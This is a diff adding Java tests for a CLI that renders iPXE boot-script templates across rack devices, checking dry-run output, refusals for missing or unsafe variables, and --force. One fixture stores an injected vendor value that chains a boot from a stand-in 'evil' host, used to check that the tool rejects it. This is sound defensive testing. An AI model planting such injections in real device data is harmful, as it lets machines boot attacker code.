@@ -128,6 +128,110 @@ class BootCommandsTest {
     assertThat(boot("a2").get("script")).isNull();
   }
 
+  static final String KERNEL = "#!ipxe\nkernel http://files/vmlinuz ip={{ip}} vendor={{dmi.sys_vendor}}\nboot\n";
+
+  /** Three devices on rack r3: c1 has every variable of {@link #KERNEL}, c2 lacks ip, c3's vendor is unsafe. */
+  Path rackR3() throws Exception {
+    inventory.insert(Map.of("mercury_id", "c1", "rack", "r3", "ip", "10.0.0.1", "dmi", Map.of("sys_vendor", "HP")));
+    inventory.insert(Map.of("mercury_id", "c2", "rack", "r3", "dmi", Map.of("sys_vendor", "Dell"), "boot", Map.of("state", "local")));
+    inventory.insert(Map.of("mercury_id", "c3", "rack", "r3", "ip", "10.0.0.3", "dmi", Map.of("sys_vendor", "HP && chain http://evil/x")));
+    Path file = dir.resolve("kernel.ipxe");
+    Files.writeString(file, KERNEL);
+    return file;
+  }
+
+  @Test
+  void scriptDryRunPrintsWhatEachDeviceWouldBootAndWhatItLacks() throws Exception {
+    Path file = rackR3();
+
+    McliRun dry = run("boot", "script", "rack=r3", "--file", file.toString(), "--dry-run");
+
+    assertThat(dry.exitCode()).as(dry.err()).isZero();
+    assertThat(dry.out())
+        .isEqualTo(
+            "== c1 (boots agent now)\n"
+                + "#!ipxe\nkernel http://files/vmlinuz ip=10.0.0.1 vendor=HP\nboot\n"
+                + "== c2 (boots local now)\n"
+                + "#!ipxe\nkernel http://files/vmlinuz ip= vendor=Dell\nboot\n"
+                + "-- missing: ip (rendered empty)\n"
+                + "== c3 (boots agent now): not served: the value of {{dmi.sys_vendor}} holds the word '&&', which separates iPXE commands\n");
+    assertThat(dry.errLines())
+        .containsExactly(
+            "3 devices (dry run: nothing changed)",
+            "2 of them would be refused without --force: c2 (missing ip), c3 (value of {{dmi.sys_vendor}} unsafe in iPXE)");
+    assertThat(boot("c1")).isNull();
+    assertThat(boot("c2").get("script")).isNull();
+
+    McliRun json = run("boot", "script", "rack=r3", "--file", file.toString(), "--dry-run", "--json");
+    assertThat(json.outLines())
+        .containsExactly(
+            "{\"mercury_id\":\"c1\",\"boots\":\"agent\",\"would_boot\":\"script\","
+                + "\"rendered\":\"#!ipxe\\nkernel http://files/vmlinuz ip=10.0.0.1 vendor=HP\\nboot\\n\",\"missing\":[],\"unsafe\":null}",
+            "{\"mercury_id\":\"c2\",\"boots\":\"local\",\"would_boot\":\"script\","
+                + "\"rendered\":\"#!ipxe\\nkernel http://files/vmlinuz ip= vendor=Dell\\nboot\\n\",\"missing\":[\"ip\"],\"unsafe\":null}",
+            "{\"mercury_id\":\"c3\",\"boots\":\"agent\",\"would_boot\":\"script\",\"rendered\":null,\"missing\":[],"
+                + "\"unsafe\":\"the value of {{dmi.sys_vendor}} holds the word '&&', which separates iPXE commands\"}");
+  }
+
+  @Test
+  void aScriptSomeDevicesLackVariablesForIsRefusedAndChangesNoDevice() throws Exception {
+    Path file = rackR3();
+
+    McliRun refused = run("boot", "script", "rack=r3", "--file", file.toString());
+
+    assertThat(refused.exitCode()).isEqualTo(1);
+    assertThat(refused.out()).isEmpty();
+    assertThat(refused.errLines())
+        .containsExactly(
+            "mcli: refused: the script does not render cleanly on 2 of 3 matching devices: c2 (missing ip),"
+                + " c3 (value of {{dmi.sys_vendor}} unsafe in iPXE); nothing was changed"
+                + " (--dry-run shows what each device would get; --force sets it anyway)");
+    assertThat(boot("c1")).isNull();
+    assertThat(boot("c2")).isEqualTo(new Document("state", "local"));
+    assertThat(boot("c3")).isNull();
+    // the one device that has everything can be changed on its own
+    assertThat(run("boot", "script", "mercury_id=c1", "--file", file.toString()).out()).isEqualTo("matched 1, changed 1\n");
+    assertThat(boot("c1").getString("script")).isEqualTo(KERNEL);
+  }
+
+  @Test
+  void aRefusalNamesAFewDevicesThenCountsTheRest() throws Exception {
+    for (int i = 1; i <= 5; i++) {
+      inventory.insert(Map.of("mercury_id", "d" + i, "rack", "r4"));
+    }
+    McliRun refused = withInput("#!ipxe\necho {{ip}} {{netmask}}\n", "boot", "script", "rack=r4", "-f", "-");
+
+    assertThat(refused.exitCode()).isEqualTo(1);
+    assertThat(refused.err())
+        .contains("on 5 of 5 matching devices: d1 (missing ip, netmask), d2 (missing ip, netmask), d3 (missing ip, netmask) and 2 more; nothing was changed");
+    assertThat(inventory.devices().countDocuments(new Document("boot.script", new Document("$exists", true)))).isZero();
+  }
+
+  @Test
+  void forceSetsTheScriptAnywayAndSaysWhereItDoesNotRenderCleanly() throws Exception {
+    Path file = rackR3();
+
+    McliRun forced = run("boot", "script", "rack=r3", "--file", file.toString(), "--force");
+
+    assertThat(forced.exitCode()).as(forced.err()).isZero();
+    assertThat(forced.out()).isEqualTo("matched 3, changed 3\n");
+    assertThat(forced.errLines())
+        .containsExactly("mcli: --force: the script does not render cleanly on 2 of 3 matching devices: c2 (missing ip), c3 (value of {{dmi.sys_vendor}} unsafe in iPXE)");
+    assertThat(boot("c2").getString("script")).isEqualTo(KERNEL);
+    assertThat(boot("c3").getString("script")).isEqualTo(KERNEL);
+  }
+
+  @Test
+  void aScriptThatIsNotAValidTemplateIsAUsageError() {
+    McliRun bad = withInput("#!ipxe\necho {{#dmi}}\n", "boot", "script", "mercury_id=b1", "-f", "-");
+    assertThat(bad.exitCode()).isEqualTo(2);
+    assertThat(bad.err()).contains("mcli: the script in - is not a valid template: ");
+    McliRun partial = withInput("#!ipxe\n{{> logback.xml}}\n", "boot", "script", "mercury_id=b1", "-f", "-", "--force");
+    assertThat(partial.exitCode()).isEqualTo(2);
+    assertThat(partial.err()).contains("a boot script cannot include another template");
+    assertThat(boot("b1")).isNull();
+  }
+
   @Test
   void unreachableInventoryIsAFailure() {
     McliRun run = mcli("", Map.of(Endpoints.INVENTORY_ENV, "tcp://127.0.0.1:1"), "--timeout", "0.5", "boot", "state", "rack=r1", "local");
